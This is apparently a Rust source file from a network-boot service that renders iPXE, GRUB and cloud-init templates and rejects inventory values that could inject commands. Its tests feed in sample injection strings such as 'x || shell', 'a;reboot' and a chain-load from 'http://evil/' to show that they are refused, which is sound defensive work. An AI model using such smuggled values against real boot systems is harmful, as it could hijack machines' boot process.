//! The template environments a BootConfig compiles into, and the variables templates see.
//!
//! Literal template text is the BootConfig author's and is trusted; every value a template
//! interpolates (names, labels, meta-data) comes from the inventory and is not. Each kind of
//! document has its own environment whose formatter enforces that, so no filter (`safe`, `e`),
//! include or macro can carry a value past the check: a template can only include templates of
//! its own kind.

use std::net::IpAddr;
use std::sync::Arc;

use minijinja::value::{Enumerator, Object, ObjectRepr, Value};
use minijinja::{Environment, Error, ErrorKind, State, UndefinedBehavior};

use crate::crd::{Arch, NodeGroup};
use crate::labels::Labels;
use crate::mac::Mac;

pub const PARAMS: &str = "params";
pub const SCRIPT: &str = "script";
/// `spec.grubScript`: a whole GRUB config, as `script` is for iPXE.
pub const GRUB_SCRIPT: &str = "grubScript";
pub const USER_DATA: &str = "user-data";
pub const VENDOR_DATA: &str = "vendor-data";
pub const NETWORK_CONFIG: &str = "network-config";

/// Instructions one render may execute; stops a runaway loop in a template from stalling the
/// resolution of every other node.
const FUEL_PER_RENDER: u64 = 200_000;

/// Characters a value interpolated into an iPXE template may not carry: iPXE splits commands
/// on white space and the `||`, `&&`, `;` and `#` tokens, expands `${...}`, and quotes with `"'\`.
pub fn ipxe_unsafe_char(c: char) -> bool {
    c.is_whitespace()
        || c.is_control()
        || matches!(c, '|' | '&' | ';' | '#' | '$' | '"' | '\'' | '\\')
}

/// The kinds of document a template can make, each with its own rule for interpolated values.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Dialect {
    /// `params` and `script`: values may not carry anything iPXE splits, expands or quotes.
    Ipxe,
    /// YAML documents (`#cloud-config`, network-config): values are written as they are, and
    /// the rendered document's structure is compared with its `Shape` rendering.
    Yaml,
    /// The same YAML templates with every string value replaced by a unique plain token: the
    /// structure the template's own text gives the document.
    Shape,
    /// Other user-data and vendor-data (shell scripts, say): values may not break a line.
    Text,
    /// `grubScript`: values may not carry anything GRUB splits, expands, quotes or globs;
    /// nodeboot's own values are quoted for GRUB, URLs written as GRUB devices.
    Grub,
}

/// An interpolated value that breaks the document's rule.
fn refused(value: &str, rule: &str) -> Error {
    Error::new(
        ErrorKind::InvalidOperation,
        format!(
            "value \"{}\" may not reach {rule}",
            crate::labels::shown(value)
        ),
    )
}

fn write_value(out: &mut minijinja::Output, text: &str) -> Result<(), Error> {
    out.write_str(text)
        .map_err(|e| Error::new(ErrorKind::WriteFailure, e.to_string()))
}

/// What `tojson` made, when it made a scalar.
enum JsonScalar {
    /// A number, `true`, `false` or `null`: one plain word.
    Word,
    /// A quoted string.
    String,
}

/// A collection is none: no value stands in for a list or a mapping; a template that lists a
/// value's items writes the loop itself, and the shape rendering runs the same loop.
fn json_scalar(text: &str) -> Option<JsonScalar> {
    if text.contains(['\n', '\r']) {
        return None;
    }
    match serde_json::from_str::<serde_json::Value>(text).ok()? {
        serde_json::Value::String(_) => Some(JsonScalar::String),
        serde_json::Value::Number(_) | serde_json::Value::Bool(_) | serde_json::Value::Null => {
            Some(JsonScalar::Word)
        }
        serde_json::Value::Array(_) | serde_json::Value::Object(_) => None,
    }
}

fn format_value(
    dialect: Dialect,
    out: &mut minijinja::Output,
    state: &State,
    value: &Value,
) -> Result<(), Error> {
    if value.is_none() || value.is_undefined() {
        // Nothing written can still change a document (`[{{ x }}]` becomes `[]`).
        if dialect == Dialect::Yaml {
            state.set_temp(YAML_UNSAFE, Value::from(true));
        }
        return Ok(());
    }
    // Values nodeboot checked itself (URLs at compile time, params after rendering): safe for
    // iPXE, but in YAML they are values like any other (params carry inventory values).
    if let Some(checked) = value.downcast_object_ref::<Checked>() {
        if dialect == Dialect::Grub {
            return write_value(out, &checked.for_grub()?);
        }
        match dialect {
            Dialect::Shape => return write_shape_token(out, state, false),
            Dialect::Yaml if !is_plain_safe(&checked.0) => {
                state.set_temp(YAML_UNSAFE, Value::from(true));
            }
            _ => {}
        }
        return write_value(out, &checked.0);
    }
    let text = value.to_string();
    match dialect {
        Dialect::Ipxe => {
            if let Some(bad) = text.chars().find(|c| ipxe_unsafe_char(*c)) {
                return Err(refused(
                    &text,
                    &format!(
                        "an iPXE script: it contains {bad:?} (white space, control characters and |&;#$\"'\\ are refused)"
                    ),
                ));
            }
        }
        Dialect::Grub => {
            if let Some(bad) = text.chars().find(|c| super::grub::grub_unsafe_char(*c)) {
                return Err(refused(
                    &text,
                    &format!(
                        "a GRUB config: it contains {bad:?} (white space, control characters and ;&|<>{{}}$\"'\\#*?[]` are refused)"
                    ),
                ));
            }
        }
        Dialect::Text => {
            if let Some(bad) = text.chars().find(|c| c.is_control() && *c != '\t') {
                return Err(refused(
                    &text,
                    &format!("a document that is not YAML: it contains {bad:?}"),
                ));
            }
        }
        Dialect::Yaml => {
            if !is_plain_safe(&text) {
                state.set_temp(YAML_UNSAFE, Value::from(true));
            }
        }
        Dialect::Shape => {
            // Numbers and booleans (and `tojson` of them) are one plain word: kept. Anything
            // else becomes a token; `tojson` of a string a quoted one, so that the text around
            // it reads the same in both renderings (`"x, sudo: ALL"` beside literal text does
            // not stay one scalar).
            let number = matches!(
                value.kind(),
                minijinja::value::ValueKind::Number | minijinja::value::ValueKind::Bool
            );
            let json = value.is_safe().then(|| json_scalar(&text)).flatten();
            match (number, json) {
                (true, _) | (_, Some(JsonScalar::Word)) => {}
                (_, Some(JsonScalar::String)) => {
                    return write_shape_token(out, state, true);
                }
                (false, None) => return write_shape_token(out, state, false),
            }
        }
    }
    write_value(out, &text)
}

/// Writes the next token of a shape rendering: unique in the document, so that no two values
/// can collide as keys; quoted where the value it stands for is a quoted string.
fn write_shape_token(
    out: &mut minijinja::Output,
    state: &State,
    quoted: bool,
) -> Result<(), Error> {
    let n = state
        .get_temp("shape")
        .and_then(|v| i64::try_from(v).ok())
        .unwrap_or(0);
    state.set_temp("shape", Value::from(n + 1));
    let quote = if quoted { "\"" } else { "" };
    write!(out, "{quote}nodeboot-value-{n}{quote}")
        .map_err(|e| Error::new(ErrorKind::WriteFailure, e.to_string()))
}

/// The temp a YAML rendering sets when some value it wrote is not plain-safe.
pub const YAML_UNSAFE: &str = "nodeboot-yaml-unsafe";

/// A value YAML reads as one plain scalar wherever it stands, exactly as it reads the shape
/// rendering's token there (also a plain scalar): short, starting alphanumeric, then only
/// alphanumerics and `._/-`. A document whose values are all like this has the structure of
/// its shape rendering, and parses when that does.
pub fn is_plain_safe(text: &str) -> bool {
    let b = text.as_bytes();
    !b.is_empty()
        && b.len() <= 64
        && b[0].is_ascii_alphanumeric()
        && b.iter()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'/' | b'-'))
}

/// A fresh environment for one dialect: strict about undefined variables (a typo is an error,
/// not an empty string), keeps trailing newlines (cloud-config files end in one), bounded in
/// instructions, and with the dialect's rule on every interpolated value.
pub fn new_environment(dialect: Dialect) -> Environment<'static> {
    let mut env = Environment::new();
    env.set_undefined_behavior(UndefinedBehavior::Strict);
    env.set_keep_trailing_newline(true);
    env.set_fuel(Some(FUEL_PER_RENDER));
    env.set_formatter(move |out, state, value| format_value(dialect, out, state, value));
    env
}

/// A value nodeboot checked itself: written as it is in every dialect but GRUB's, where it is
/// quoted word by word and, when it is a URL, written as a GRUB device (`(http,host:port)/path`).
#[derive(Debug)]
struct Checked(String, CheckedKind);

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum CheckedKind {
    Text,
    Url,
}

impl Checked {
    fn for_grub(&self) -> Result<String, Error> {
        let mut out = String::with_capacity(self.0.len() + 8);
        match self.1 {
            CheckedKind::Text => super::grub::quote_words(&self.0, &mut out),
            CheckedKind::Url => {
                let device = super::grub::device_path(&self.0)
                    .map_err(|e| Error::new(ErrorKind::InvalidOperation, e.to_string()))?;
                out.push_str(&super::grub::quote(&device));
            }
        }
        Ok(out)
    }
}

impl Object for Checked {
    fn repr(self: &Arc<Self>) -> ObjectRepr {
        ObjectRepr::Plain
    }

    fn render(self: &Arc<Self>, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }

    fn is_true(self: &Arc<Self>) -> bool {
        !self.0.is_empty()
    }
}

/// What templates know of the node being rendered.
#[derive(Debug, Clone, Copy)]
pub struct NodeView<'a> {
    pub name: &'a str,
    pub hostname: &'a str,
    pub nid: Option<i64>,
    pub ip: Option<IpAddr>,
    /// The MAC that asked, else the node's first.
    pub mac: Option<Mac>,
    pub macs: &'a [Mac],
    pub arch: Option<Arch>,
    pub group: &'a str,
    pub namespace: &'a str,
    pub labels: LabelsRef<'a>,
    pub meta: &'a serde_json::Map<String, serde_json::Value>,
}

/// Where a node's effective labels come from.
#[derive(Debug, Clone, Copy)]
pub enum LabelsRef<'a> {
    Map(&'a Labels),
    /// Derived from the NodeGroup when a template asks: most templates never read labels, and
    /// building the map for every node of a large site would be most of the rendering cost.
    Group {
        group: &'a Arc<NodeGroup>,
        index: usize,
    },
}

#[derive(Debug)]
struct NodeLabels {
    group: Arc<NodeGroup>,
    index: usize,
}

impl Object for NodeLabels {
    fn repr(self: &Arc<Self>) -> ObjectRepr {
        ObjectRepr::Map
    }

    fn get_value(self: &Arc<Self>, key: &Value) -> Option<Value> {
        let node = self.group.spec.nodes.get(self.index)?;
        self.group
            .effective_label(node, key.as_str()?)
            .map(Value::from)
    }

    fn enumerate(self: &Arc<Self>) -> Enumerator {
        match self.group.spec.nodes.get(self.index) {
            Some(node) => Enumerator::Values(
                self.group
                    .effective_labels(node)
                    .into_keys()
                    .map(Value::from)
                    .collect(),
            ),
            None => Enumerator::Empty,
        }
    }
}

/// The `node` and `meta` variables of one node, built once and shared by all its templates.
#[derive(Debug, Clone)]
pub struct NodeVars {
    node: Value,
    meta: Value,
}

pub fn node_vars(node: &NodeView<'_>) -> NodeVars {
    let macs: Vec<String> = node.macs.iter().map(Mac::to_string).collect();
    let labels = match node.labels {
        LabelsRef::Map(map) => Value::from_serialize(map),
        LabelsRef::Group { group, index } => Value::from_object(NodeLabels {
            group: group.clone(),
            index,
        }),
    };
    NodeVars {
        node: Value::from_object(Fields {
            keys: &[
                "arch",
                "group",
                "hostname",
                "ip",
                "labels",
                "mac",
                "macs",
                "name",
                "namespace",
                "nid",
            ],
            values: vec![
                Value::from(node.arch.map(Arch::as_str)),
                Value::from(node.group),
                Value::from(node.hostname),
                Value::from(node.ip.map(|ip| ip.to_string())),
                labels,
                Value::from(node.mac.map(|m| m.to_string())),
                Value::from_iter(macs),
                Value::from(node.name),
                Value::from(node.namespace),
                Value::from(node.nid),
            ],
        }),
        meta: Value::from_serialize(node.meta),
    }
}

/// What templates know of the boot that was chosen. Values here were checked already (URLs at
/// compile time, params after rendering), so they pass every dialect's rule as they are.
#[derive(Debug, Clone, Copy)]
pub struct BootView<'a> {
    pub config: &'a str,
    pub kernel: &'a str,
    pub initrd: Option<&'a str>,
    pub params: Option<&'a str>,
    pub server_url: &'a str,
}

pub fn variables(vars: &NodeVars, boot: &BootView<'_>) -> Value {
    let safe = |s: &str| Value::from_object(Checked(s.to_owned(), CheckedKind::Text));
    let url = |s: &str| Value::from_object(Checked(s.to_owned(), CheckedKind::Url));
    Value::from_object(Fields {
        keys: &["boot", "meta", "node", "server"],
        values: vec![
            Value::from_object(Fields {
                keys: &["config", "initrd", "kernel", "params"],
                values: vec![
                    Value::from(boot.config),
                    Value::from(boot.initrd.map(url)),
                    url(boot.kernel),
                    Value::from(boot.params.map(safe)),
                ],
            }),
            vars.meta.clone(),
            vars.node.clone(),
            Value::from_object(Fields {
                keys: &["url"],
                values: vec![url(boot.server_url)],
            }),
        ],
    })
}

/// A map with fixed keys, for the variables a template sees. Not a minijinja map: a node's
/// templates see three sets of variables, and building sorted maps for each was a tenth of a
/// rebuild's time.
#[derive(Debug)]
struct Fields {
    /// Sorted, as a map's keys would be; `values` in the same order.
    keys: &'static [&'static str],
    values: Vec<Value>,
}

impl Object for Fields {
    fn repr(self: &Arc<Self>) -> ObjectRepr {
        ObjectRepr::Map
    }

    fn get_value(self: &Arc<Self>, key: &Value) -> Option<Value> {
        let key = key.as_str()?;
        let i = self.keys.iter().position(|k| *k == key)?;
        self.values.get(i).cloned()
    }

    fn enumerate(self: &Arc<Self>) -> Enumerator {
        Enumerator::Str(self.keys)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The variables of a sample node whose meta-data is `meta`.
    fn sample_vars(meta: &serde_json::Value) -> Value {
        let labels = Labels::new();
        let meta = meta.as_object().cloned().unwrap_or_default();
        let macs = [Mac::new([2, 0, 0, 0, 0, 1])];
        let node = NodeView {
            name: "x1000c0s0b0n0",
            hostname: "nid0001",
            nid: Some(1),
            ip: None,
            mac: Some(macs[0]),
            macs: &macs,
            arch: Some(Arch::X86_64),
            group: "g",
            namespace: "ns",
            labels: LabelsRef::Map(&labels),
            meta: &meta,
        };
        let boot = BootView {
            config: "c",
            kernel: "http://k",
            initrd: None,
            params: Some("console=ttyS0 quiet"),
            server_url: "http://10.0.0.1:8080",
        };
        variables(&node_vars(&node), &boot)
    }

    fn render(template: &str, name: &str, meta: serde_json::Value) -> Result<String, Error> {
        let dialect = if matches!(name, PARAMS | SCRIPT) {
            Dialect::Ipxe
        } else {
            Dialect::Yaml
        };
        let mut env = new_environment(dialect);
        env.add_template_owned(name.to_owned(), template.to_owned())
            .unwrap();
        env.get_template(name)?.render(sample_vars(&meta))
    }

    #[test]
    fn ipxe_templates_refuse_command_injection_from_values() {
        for evil in [
            "x || shell",
            "x\nshell",
            "a;b",
            "${net0/mac}",
            "x&&reboot",
            "#c",
            "a\"b",
        ] {
            let got = render(
                "root=live:{{ meta.v }}",
                PARAMS,
                serde_json::json!({"v": evil}),
            );
            assert!(got.is_err(), "{evil:?} was accepted: {got:?}");
            // Marking a value safe or escaping it changes nothing.
            for bypass in ["{{ meta.v|safe }}", "{{ meta.v|e }}", "{{ meta.v|string }}"] {
                let got = render(
                    &format!("root=live:{bypass}"),
                    SCRIPT,
                    serde_json::json!({"v": evil}),
                );
                assert!(got.is_err(), "{bypass} with {evil:?} was accepted: {got:?}");
            }
        }
        // The same value is fine in cloud-init data, where iPXE never sees it.
        let ud = render(
            "#cloud-config\nx: {{ meta.v }}\n",
            USER_DATA,
            serde_json::json!({"v": "a b"}),
        );
        assert_eq!(ud.unwrap(), "#cloud-config\nx: a b\n");
        // A value in a document that is not YAML may not break its line.
        let mut env = new_environment(Dialect::Text);
        env.add_template_owned(USER_DATA, "#!/bin/sh\necho {{ v }}\n")
            .unwrap();
        let tmpl = env.get_template(USER_DATA).unwrap();
        assert!(
            tmpl.render(minijinja::context! { v => "a\nreboot" })
                .is_err()
        );
        assert_eq!(
            tmpl.render(minijinja::context! { v => "a b" }).unwrap(),
            "#!/bin/sh\necho a b\n"
        );
    }

    #[test]
    fn trusted_values_and_literals_pass() {
        let out = render(
            "{{ boot.params }} nid={{ node.nid }} host={{ node.hostname }} srv={{ server.url }}",
            SCRIPT,
            serde_json::json!({}),
        )
        .unwrap();
        assert_eq!(
            out,
            "console=ttyS0 quiet nid=1 host=nid0001 srv=http://10.0.0.1:8080"
        );
    }

    #[test]
    fn labels_derived_from_the_group_read_like_a_map() {
        use crate::crd::{NodeGroupSpec, NodeSpec};
        let mut group = NodeGroup::new(
            "cab",
            NodeGroupSpec {
                labels: [
                    ("role".to_owned(), "compute".to_owned()),
                    ("gpu".to_owned(), "none".to_owned()),
                ]
                .into(),
                nodes: vec![NodeSpec {
                    name: "n1".into(),
                    macs: vec!["02:00:00:00:00:01".into()],
                    labels: [("gpu".to_owned(), "a100".to_owned())].into(),
                    ..Default::default()
                }],
                ..Default::default()
            },
        );
        group.metadata.namespace = Some("ns".into());
        let group = Arc::new(group);
        let meta = serde_json::Map::new();
        let node = NodeView {
            name: "n1",
            hostname: "n1",
            nid: None,
            ip: None,
            mac: None,
            macs: &[],
            arch: None,
            group: "cab",
            namespace: "ns",
            labels: LabelsRef::Group {
                group: &group,
                index: 0,
            },
            meta: &meta,
        };
        let boot = BootView {
            config: "c",
            kernel: "http://k",
            initrd: None,
            params: None,
            server_url: "http://s",
        };
        let mut env = new_environment(Dialect::Yaml);
        env.add_template_owned(
            USER_DATA,
            "{{ node.labels.gpu }} {{ node.labels['nodeboot.io/group'] }}|{% for k, v in node.labels|items %}{{ k }}={{ v }},{% endfor %}",
        )
        .unwrap();
        let out = env
            .get_template(USER_DATA)
            .unwrap()
            .render(variables(&node_vars(&node), &boot))
            .unwrap();
        assert_eq!(
            out,
            "a100 cab|gpu=a100,nodeboot.io/group=cab,nodeboot.io/known=true,nodeboot.io/name=n1,role=compute,"
        );
    }

    #[test]
    fn includes_and_macros_are_checked_like_the_template_itself() {
        let mut env = new_environment(Dialect::Ipxe);
        env.add_template_owned(PARAMS, "x={{ meta.v }}").unwrap();
        env.add_template_owned(
            SCRIPT,
            "{% macro m() %}{{ meta.v }}{% endmacro %}kernel k {{ m() }}\n{% include 'params' %}",
        )
        .unwrap();
        let meta = serde_json::json!({"v": "a || chain http://evil/ ||"});
        let got = env.get_template(SCRIPT).unwrap().render(sample_vars(&meta));
        assert!(got.is_err(), "{got:?}");
    }

    #[test]
    fn shape_dialect_keeps_only_numbers_and_tojson_scalars() {
        let mut env = new_environment(Dialect::Shape);
        env.add_template_owned(
            USER_DATA,
            "a: {{ meta.s }}\nb: {{ meta.n }}\nc: {{ meta.l|tojson }}\nd: {{ meta.s }}\ne: {{ meta.s|tojson }}\nf: {{ meta.j }}\n",
        )
        .unwrap();
        let out = env
            .get_template(USER_DATA)
            .unwrap()
            .render(minijinja::context! { meta => serde_json::json!({"s": "x\ny", "n": 3, "l": ["p", "q"], "j": "\"quoted\""}) })
            .unwrap();
        assert_eq!(
            out,
            "a: nodeboot-value-0\nb: 3\nc: nodeboot-value-1\nd: nodeboot-value-2\ne: \"nodeboot-value-3\"\nf: nodeboot-value-4\n"
        );
    }

    #[test]
    fn grub_templates_refuse_values_and_quote_nodeboots_own() {
        let render_grub = |template: &str, meta: serde_json::Value| {
            let mut env = new_environment(Dialect::Grub);
            env.add_template_owned(GRUB_SCRIPT, template.to_owned())
                .unwrap();
            env.get_template(GRUB_SCRIPT)
                .unwrap()
                .render(sample_vars(&meta))
        };
        for evil in [
            "a;reboot",
            "a&b",
            "x\nreboot",
            "${root}",
            "a b",
            "'q'",
            "#c",
            "*",
            "{x}",
        ] {
            for form in ["{{ meta.v }}", "{{ meta.v|safe }}", "{{ meta.v|e }}"] {
                let got = render_grub(&format!("linux k {form}\n"), serde_json::json!({"v": evil}));
                assert!(got.is_err(), "{form} with {evil:?} was accepted: {got:?}");
            }
        }
        let out = render_grub(
            "linux {{ boot.kernel }} {{ boot.params }} n={{ node.name }}\nsource {{ server.url }}/x\n",
            serde_json::json!({}),
        )
        .unwrap();
        assert_eq!(
            out,
            "linux (http,k) console=ttyS0 quiet n=x1000c0s0b0n0\nsource (http,10.0.0.1:8080)/x\n"
        );
    }

    #[test]
    fn undefined_is_an_error() {
        let err = render("{{ meta.nope }}", USER_DATA, serde_json::json!({})).unwrap_err();
        assert_eq!(err.kind(), ErrorKind::UndefinedError);
    }
}
